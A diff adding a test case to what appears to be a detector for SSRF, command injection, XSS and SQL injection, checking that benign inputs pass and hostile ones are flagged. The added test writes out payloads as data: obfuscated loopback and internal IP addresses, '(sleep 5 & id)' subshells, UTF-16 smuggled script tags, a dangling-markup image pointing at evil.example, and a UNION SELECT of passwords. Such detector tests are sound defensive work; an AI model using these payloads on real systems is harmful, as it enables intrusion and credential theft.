@@ -2118,3 +2118,22 @@ t.test('review of the twenty-ninth round: a JSON body cut inside a tag of its la
   // a tag closed before the cut is read
   t.ok(body(`{"a":1,"q":"<svg onload=alert(1)> ${'a'.repeat(17_000)}"}`).includes('xss'))
 })
+
+t.test('twenty-ninth round (the seventeenth part, spent): a number is no address unless it spells an internal one, a bitwise and in parentheses, a page cut in a link, high bytes for markup, an operand then a statement', async (t) => {
+  // a decimal number under a URL's or an address's key: a page number, a postcode, a year
+  for (const [name, v] of [['page', '12'], ['page', '2024'], ['address', '25740'], ['address', '02037'], ['image_url', '1234'], ['address', '134744072']] as const) t.notOk(q(v, name).includes('ssrf'), `${name}=${v}`)
+  for (const [name, v] of [['url', '2130706433'], ['address', '3232235777'], ['host', '2852039166'], ['url', '017700000001'], ['url', '127.1'], ['url', '0x7f000001'], ['url', 'http://12/']] as const) t.ok(q(v, name).includes('ssrf'), `${name}=${v}`)
+  // a bitwise and of operands in parentheses; a subshell's job is still one
+  t.notOk(q('return (char_table[c] & type);').includes('rce'))
+  t.notOk(q('if ((flags & file) != 0) return;').includes('rce'))
+  for (const v of ['(sleep 5 & id)', '(x & whoami)']) t.ok(q(v).includes('rce'), v)
+  // a long page cut inside its last link is no dangling markup; a short injection is
+  const page = '<div><p>Update posted.</p><p>See <a href="https://example.com/a">this</a> and <a href="https://example.com/b">that</a>.</p></div> '.repeat(6)
+  t.notOk(json({ comment: `${page}<a href="https://dioxus.notion.site/Dioxus-Labs-High-lev` }).includes('xss'))
+  t.ok(q('<img src="//evil.example/?').includes('xss'))
+  // a reader keeping a UTF-16 unit's high byte
+  t.ok(q('∀㸀㰀script㸀alert(1)㰀/script㸀').includes('xss'))
+  t.same(q('日本語のテキスト、㸀と㰀'), [])
+  // after a breakout, an operand then a statement
+  t.ok(q("‘-sqlite_version() UNION SELECT password FROM users --").includes('sqli'))
+})
